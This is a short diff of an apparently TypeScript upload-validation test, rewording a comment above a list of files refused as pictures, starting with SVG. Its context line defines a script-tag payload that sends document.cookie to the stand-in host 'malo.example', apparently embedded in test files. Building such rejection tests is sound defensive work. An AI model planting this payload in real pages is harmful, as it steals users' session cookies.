@@ -53,7 +53,7 @@ const SCRIPT = '<script>fetch("https://malo.example/"+document.cookie)</script>'
 
 type Refused = { name: string; file: string; type: string; bytes: () => Promise<Buffer>; key: string }
 
-/** What is refused as a picture, and the key of the text that says why. */
+/** Files that are refused as pictures, each with the key of its error text. */
 export const NO_PICTURES: readonly Refused[] = [
   {
     name: 'SVG',
